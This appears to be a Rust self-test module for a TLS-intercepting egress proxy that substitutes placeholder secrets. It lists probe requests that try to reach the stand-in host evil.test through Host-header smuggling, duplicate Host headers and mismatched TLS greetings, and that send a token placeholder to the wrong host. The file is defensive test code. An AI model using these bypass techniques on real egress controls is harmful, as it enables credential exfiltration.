//! Owns the list of ways out through a network whose TLS is ended on the way: what is said inside it is read, so
//! that a placeholder becomes the real value at its own host, and nowhere else.

use std::io;

use super::speak::{tls, tls_of};
use super::ways::{LISTED, Way, answered, get, post, twin, way};
use super::{DIGEST, KEY};
use crate::selftest::evidence::digest;

/// The host that the planted token belongs to, by its form.
pub(super) const OWN: &str = "api.github.com";

pub(super) const TWINS: &[Way] = &[
    twin("by-tls", |word| tls(LISTED, LISTED, &get(LISTED, word)).map(drop)),
    twin("by-key", |word| tls(OWN, OWN, &with_key(OWN, word)).map(drop)),
];

pub(super) const WAYS: &[Way] = &[
    way("tls-host", "inside TLS to a listed host, another in `Host`", "by-tls", |word| {
        tls(LISTED, LISTED, &get(&format!("{word}.evil.test"), "x")).map(drop)
    }),
    way("tls-two-hosts", "the same beside the listed one", "by-tls", |word| {
        let two = format!("GET / HTTP/1.1\r\nHost: {LISTED}\r\nHost: {word}.evil.test\r\n\r\n");
        tls(LISTED, LISTED, two.as_bytes()).map(drop)
    }),
    way("tls-greeting", "TLS to a listed host that greets another", "by-tls", |word| {
        tls(LISTED, "evil.test", &get(LISTED, word)).map(drop)
    }),
    way("tls-greeting-and-host", "the same, and that other in `Host`", "by-tls", |word| {
        tls(LISTED, "evil.test", &get("evil.test", word)).map(drop)
    }),
    way("tls-greeting-nobody", "TLS that greets nobody, and another in `Host`", "by-tls", |word| {
        // An address is no name, and is not said in the greeting.
        tls(LISTED, "192.0.2.80", &get("evil.test", word)).map(drop)
    }),
    way("tls-address", "TLS to the address of a listed host, without its name", "by-tls", |word| {
        tls_of([192, 0, 2, 80], LISTED, &get(LISTED, word)).map(drop)
    }),
    way("tls-placeholder", "a secret variable, to a host that it is not for", "by-tls", |word| {
        tls(LISTED, LISTED, &with_key(LISTED, word)).map(drop)
    }),
    way("tls-placeholder-body", "the same in a body", "by-tls", |word| {
        tls(LISTED, LISTED, &post(LISTED, "x", &format!("{word} {}", key()))).map(drop)
    }),
    answered("reflected", "the real value, in the answer of the host that it is for", "by-key", |word| {
        let answer = tls(OWN, OWN, &with_key(OWN, word))?;
        let wanted = std::env::var(DIGEST).unwrap_or_default();
        let mut words = answer.split(|byte| !byte.is_ascii_alphanumeric() && *byte != b'_');
        if words.any(|word| digest(word) == wanted) {
            Ok(())
        } else {
            Err(io::Error::other("it comes back as its placeholder"))
        }
    }),
];

fn key() -> String {
    std::env::var(KEY).unwrap_or_default()
}

fn with_key(host: &str, path: &str) -> Vec<u8> {
    let key = key();
    format!("GET /{path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: token {key}\r\nConnection: close\r\n\r\n")
        .into_bytes()
}
